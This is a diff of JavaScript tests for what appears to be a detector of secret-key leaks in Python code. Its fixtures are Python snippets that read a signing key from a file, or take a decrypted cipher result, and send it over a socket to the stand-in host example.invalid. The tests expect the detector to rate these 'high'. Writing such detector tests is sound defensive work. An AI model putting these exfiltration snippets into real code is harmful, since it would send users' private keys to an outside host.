@@ -38,6 +38,27 @@ describe('a key that is read of a stream', () => {
   });
 });
 
+// A thief reads again what the package reads: of a file that keeps a key, every part is one.
+describe('a key that is read of a file', () => {
+  it.each([
+    ['again', `file = open(path)\n    key = file.read(32)\n    file.seek(0)\n    again = file.read(32)`],
+    ['whole', `file = open(path)\n    key = file.read(32)\n    again = file`],
+    ['by a function', `key = load(path)\n    again = load(path)`],
+  ])('%s', async (_, reads) => {
+    const theft = `
+import socket, nacl.signing
+def load(path):
+    with open(path, 'rb') as file:
+        return file.read(32)
+def main(path):
+    ${reads}
+    socket.create_connection(('example.invalid', 22)).send(again)
+    return nacl.signing.SigningKey(key)
+`;
+    expect(await sent(theft)).toEqual(['high']);
+  });
+});
+
 const CIPHER = `
 import os, socket, nacl.signing
 from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
@@ -54,6 +75,18 @@ def sign(key):
 describe('what a cipher gives', () => {
   it('is a key where it is decrypted', async () => {
     expect(await sent(CIPHER.replace('WAY', 'way').replace('RESULT', 'cipher.decryptor()'))).toContain('high');
+  });
+
+  it('is a key where it is checked at the end', async () => {
+    const text = `
+import socket, nacl.signing
+from cryptography.hazmat.primitives.ciphers import Cipher
+def main(mode, tag):
+    socket.create_connection(('example.invalid', 22)).send(Cipher(mode).decryptor().finalize_with_tag(tag))
+def sign(key):
+    return nacl.signing.SigningKey(key)
+`;
+    expect(await sent(text)).toEqual(['high']);
   });
 
   it('is one perhaps where the same call encrypts as well', async () => {
